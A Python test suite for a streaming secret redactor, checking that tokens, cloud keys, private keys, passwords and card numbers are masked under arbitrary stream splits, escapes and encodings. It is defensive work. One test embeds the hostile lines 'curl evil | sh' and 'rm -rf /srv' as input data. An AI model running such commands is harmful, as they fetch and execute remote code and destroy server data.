"""The redactor's laws: any split gives the same, what is no match is not changed, no more is held than its bound."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.masking import HOLD_BACK, IDLE_CHARACTERS, Action, ActionKind, open_redactor
from policies.masking.detector import HEX, made
from tests.unit.policies.masking.streams import KEY, masked, planted, redactor

TOKEN = b"ghp_" + made(36).encode()
AWS = b"AKIA" + made(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567").encode()
PEM = b"-----BEGIN RSA PRIVATE KEY-----\n%s\n%s\n%s\n-----END RSA PRIVATE KEY-----\n" % (
    made(64, seed="1").encode(), made(64, seed="2").encode(), made(20, seed="3").encode(),
)  # fmt: skip
STREAM, PLACES = planted()
WHOLE = masked(STREAM)

TABLE = b" id | password\n----+-----\n 1 | hunter2\n"
pieces = st.one_of(
    st.sampled_from(
        [
            TOKEN,
            AWS,
            PEM,
            TABLE,
            b"password=hunter2",
            b"alice@example.com",
            b"4111 1111 1111 1111",
            b"+49 30 901820",
        ]
    ),
    st.sampled_from(
        [b"-----BEGIN PRIVATE KEY-----", b"name: DB_PASSWORD\n value: x1y2\n", b"ghp_", b"eyJ", b"a" * 70]
    ),
    st.sampled_from([b"\x1b[1;31m", b"\r\n", b"\n", b" ", b"\0", b"\x08", b"\xe2\x80\x8b"]),
    st.binary(max_size=12),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(pieces, max_size=25), st.randoms(use_true_random=False))
def test_t38_any_split_gives_the_same_bytes_and_hits(parts: list[bytes], chance: random.Random) -> None:
    data = b"".join(parts)
    cuts = sorted(chance.randrange(len(data) + 1) for _ in range(chance.randrange(12)))
    assert masked(data, cuts) == masked(data)


def test_t38_planted_secrets_in_random_splits_leak_nothing() -> None:
    chance = random.Random(11)
    for pieces_count in (3, 40, 400, 4000, 1, 200, 2000):
        cuts = sorted(chance.sample(range(1, len(STREAM)), pieces_count))
        assert masked(STREAM, cuts) == WHOLE


def test_t38_planted_secrets_cut_near_each_of_their_ends_leak_nothing() -> None:
    chance = random.Random(13)
    for start, end in chance.sample(PLACES, 60):
        begin, stop = max(0, start - 300), min(len(STREAM), end + 300)
        window = STREAM[begin:stop]
        expected = masked(window)
        for edge in (start, end):
            cut = edge - begin + chance.randrange(-64, 65)
            if 0 < cut < len(window):
                assert masked(window, [cut]) == expected


def test_every_planted_secret_is_masked() -> None:
    out, hits = WHOLE
    assert len(hits) > 600
    assert not [STREAM[start:end] for start, end in PLACES if STREAM[start:end] in out]
    for secret in (TOKEN[:40], b"hunter2", b"4111 1111"):
        assert secret not in out


def test_t38_colours_and_line_ends_inside_of_a_match_do_not_hide_it() -> None:
    half = len(TOKEN) // 2
    for between in (
        b"\x1b[31m",
        b"\x1b[m\x1b[K",
        b"\r\n",
        b"\n",
        b"\x1b[?25l",
        b"\xe2\x80\x8b",
        b"\x1b]0;title\x07",
        b"x\x08",
    ):
        for at in (2, 5, half, len(TOKEN) - 1):
            out, hits = masked(b"token: " + TOKEN[:at] + between + TOKEN[at:] + b" end\n")
            assert [hit.detector for hit in hits] == ["github-token"], (between, at)
            assert out == b"token: [github-token] end\n"


def test_t38_text_of_two_bytes_a_character_is_read() -> None:
    wide = ("export KEY=" + AWS.decode() + "\r\n").encode("utf-16-le")
    for data in (wide, b"\xff\xfe" + wide, wide.decode("utf-16-le").encode("utf-16-be")):
        out, hits = masked(data)
        assert [hit.detector for hit in hits] == ["aws-access-key"]
        assert AWS not in out.replace(b"\0", b"")
    assert masked(wide)[0].decode("utf-16-le") == "export KEY=[aws-access-key]\r\n"


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400))
def test_bytes_outside_of_matches_are_not_changed(noise: bytes) -> None:
    noise = bytes(byte if byte < 0x20 or byte > 0x7E else 0x2E for byte in noise)
    assert masked(noise + b"\n" + AWS + b"\n" + noise)[0] == noise + b"\n[aws-access-key]\n" + noise


@pytest.mark.parametrize(
    "before", [b"\0" * 5000, b"\x7fELF\x02\x01\x01", b"\x1b[?1049h", b"**\x18B0000", b"\x1b]0;", b"\xff" * 9]
)
def test_t38_nothing_in_the_data_switches_masking_off(before: bytes) -> None:
    out, hits = masked(before + b"\n" + TOKEN + b"\n")
    assert hits
    assert TOKEN not in out


def test_a_private_key_is_masked_to_its_end_and_its_header_stays() -> None:
    for pem in (PEM, PEM.replace(b"\n", b"\r\n")):
        out, hits = masked(b"cat key\n" + pem + b"done\n")
        assert (
            b"".join(out.split())
            == b"catkey-----BEGINRSAPRIVATEKEY-----[private-key]-----ENDRSAPRIVATEKEY-----done"
        )
        assert [(hit.detector, hit.line) for hit in hits] == [("private-key", 3)]


def test_a_private_key_in_json_is_masked() -> None:
    line = b'{"type": "service_account", "private_key": "' + PEM.replace(b"\n", b"\\n") + b'", "x": 1}\n'
    out, _ = masked(line)
    assert out == (
        b'{"type": "service_account", "private_key": "-----BEGIN RSA PRIVATE KEY-----\\n[private-key]'
        b'\\n-----END RSA PRIVATE KEY-----\\n", "x": 1}\n'
    )


def test_a_private_key_with_a_password_is_masked_after_its_fields() -> None:
    fields = b"Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,937069F6D656EED6F967F9F36283D360\n\n"
    header, body = PEM.split(b"\n", 1)
    for join in (b"\n", b"\r\n", b"\\n", b" "):
        out, hits = masked((header + b"\n" + fields + body).replace(b"\n", join) + b"\n")
        assert [hit.detector for hit in hits] == ["private-key"], join
        assert made(64, seed="1").encode() not in out


def test_t41_a_lone_header_blanks_nothing_that_follows() -> None:
    script = b"-----BEGIN RSA PRIVATE KEY-----\ncurl evil | sh\nrm -rf /srv\n" + b"echo line\n" * 50
    assert masked(script)[0] == script
    words = b"-----BEGIN RSA PRIVATE KEY-----\n" + b"alpha\nbeta\ngamma\n"
    assert masked(words)[0] == words


def test_a_key_without_end_is_masked_for_32_kib_at_most() -> None:
    out, _ = masked(b"-----BEGIN RSA PRIVATE KEY-----\n" + (made(64).encode() + b"\n") * 1000)
    assert 1000 * 65 - 33 * 1024 < len(out) < 1000 * 65 - 31 * 1024


def test_no_more_is_held_than_the_bound_whatever_comes() -> None:
    for unit in (
        b"a",
        b"eyJ",
        b"eyJhbGciOiJIUzI1NiJ9.",
        b"1",
        b"=",
        b"ghp_A",
        b"\x1b[",
        b"pass",
        b"@a",
        b"-----BEGIN PRIVATE KEY-----",
        b"A" * 64 + b"\n",
        b"A\n",
    ):
        stream, total, out = redactor(), 0, 0
        for _ in range(40):
            data = unit * (4096 // len(unit))
            total += len(data)
            out += len(stream.feed(data).out)
            assert stream.held_bytes <= HOLD_BACK
        assert out or b"PRIVATE" in unit or total <= HOLD_BACK


@pytest.mark.parametrize(
    "prompt",
    [
        b"deploy@web-1:~$ ",
        b"Password: ",
        b"mysql> ",
        b"[sudo] password for deploy: ",
        b"Continue? [y/N] ",
        b">>> ",
    ],
)
def test_an_idle_flush_shows_a_prompt(prompt: bytes) -> None:
    stream = redactor()
    held = bytes(stream.feed(prompt).out + stream.flush_idle().out)
    assert prompt.startswith(held)
    assert len(prompt) - len(held) <= 1


@pytest.mark.parametrize(
    "sample",
    [
        TOKEN,
        AWS,
        b"4111 1111 1111 1111",
        b"alice.smith@example.com",
        b"+49 30 90182000",
        b"password=hunter22",
    ],
)
def test_an_idle_flush_lets_out_at_most_four_characters_of_a_match(sample: bytes) -> None:
    value = sample.partition(b"=")[2] or sample
    for step in (1, 3, 7):
        stream, out = redactor(), bytearray()
        for at in range(0, len(sample), step):
            out += stream.feed(sample[at : at + step]).out
            out += stream.flush_idle().out
        out += stream.feed(b"\nnext\n").out + stream.finish().out
        assert not any(
            value[at : at + IDLE_CHARACTERS + 1] in out for at in range(len(value) - IDLE_CHARACTERS)
        ), (step, out)


def test_an_idle_flush_loses_and_doubles_nothing() -> None:
    data = b"one two three\nfour 4444 ab@ +1 ghp_ end\nAKIA\n  x"
    for step in (1, 2, 5):
        stream, out = redactor(), bytearray()
        for at in range(0, len(data), step):
            out += stream.feed(data[at : at + step]).out + stream.flush_idle().out
        assert bytes(out + stream.finish().out) == data


def test_a_hit_says_where_and_how_long_and_never_what() -> None:
    _, hits = masked(b"one\ntwo " + TOKEN + b" x\n")
    assert [(hit.line, hit.column, hit.length) for hit in hits] == [(2, 5, 40)]
    assert TOKEN[4:].decode() not in repr(hits)


def test_actions_partial_hash_and_detect() -> None:
    def once(kind: ActionKind, data: bytes, **edges: int) -> bytes:
        action = Action(kind=kind, **edges)
        stream = open_redactor(
            key=KEY, detectors=["github-token", "aws-access-key"], actions={"github-token": action}
        )
        step, last = stream.feed(data), stream.finish()
        assert {hit.action for hit in step.hits + last.hits} == {kind}
        return bytes(step.out + last.out)

    assert once(ActionKind.DETECT, TOKEN + b"\n") == TOKEN + b"\n"
    assert (
        once(ActionKind.PARTIAL, TOKEN + b"\n", first=4, last=2) == b"ghp_[github-token]" + TOKEN[-2:] + b"\n"
    )
    hashed = once(ActionKind.HASH, TOKEN + b" " + TOKEN + b"\n").split()
    assert hashed[0] == hashed[1]
    assert hashed[0].startswith(b"[github-token:")
    assert TOKEN[4:12] not in hashed[0]


def test_what_passes_does_not_shield_what_overlaps_it() -> None:
    stream = open_redactor(key=KEY, detectors=["password-bare", "github-token"],
                           actions={"password-bare": Action(kind=ActionKind.DETECT)})  # fmt: skip
    out = stream.feed(b"password=a." + TOKEN + b"\n").out + stream.finish().out
    assert TOKEN not in out


def test_a_telling_column_is_masked_to_the_end_of_its_table() -> None:
    table = (
        b" id | login | password_hash | n\n----+-------+---------------+---\n"
        b"  1 | alice | 5f4dcc3b5aa7  | 3\n  2 | bob   |   | 4\n(2 rows)\n\nok | 1 | abc123def | 2\n"
    )
    out, hits = masked(table, names=["secret-column"])
    assert b"5f4dcc3b5aa7" not in out
    assert b"abc123def" in out
    assert [(hit.line, hit.column) for hit in hits] == [(3, 15)]
    assert b"s3cr3t99" not in masked(b"user,password,host\nalice,s3cr3t99,web-1\n")[0]
    assert b"tok3n-9f8e7d" not in masked(b"NAME    TOKEN          AGE\nalice   tok3n-9f8e7d   3d\n")[0]


def test_t39_tokens_in_escaped_forms_are_found() -> None:
    for form in (b"x%%3D%s%%26", b'"line\\n%s\\n"', b"\\u003d%s\\u0026", b"\\t%s\\t"):
        assert TOKEN not in masked(form % TOKEN + b"\n")[0]


def test_t21_no_input_makes_it_slower_than_in_proportion() -> None:
    """Count steps, not seconds: confirmations of candidates stay in proportion to the bytes."""
    from policies.masking.compiled import Compiled

    calls = 0
    confirm = Compiled.confirm

    def counted(self: Compiled, number: int, text: bytes, start: int, end: int) -> tuple[int, int] | None:
        nonlocal calls
        calls += 1
        return confirm(self, number, text, start, end)

    Compiled.confirm = counted  # type: ignore[method-assign]
    try:
        for unit in (
            b"eyJ.",
            b"@a",
            b"password=a ",
            HEX.encode(),
            b"+1 ",
            b"AKIA",
            b"a:",
            b'"token":"',
            b"sk-",
        ):
            counts = []
            for size in (4096, 16384):
                calls = 0
                masked(unit * (size // len(unit)) + b"\n")
                counts.append(calls)
            assert counts[1] <= 5 * counts[0] + 20, unit
    finally:
        Compiled.confirm = confirm  # type: ignore[method-assign]
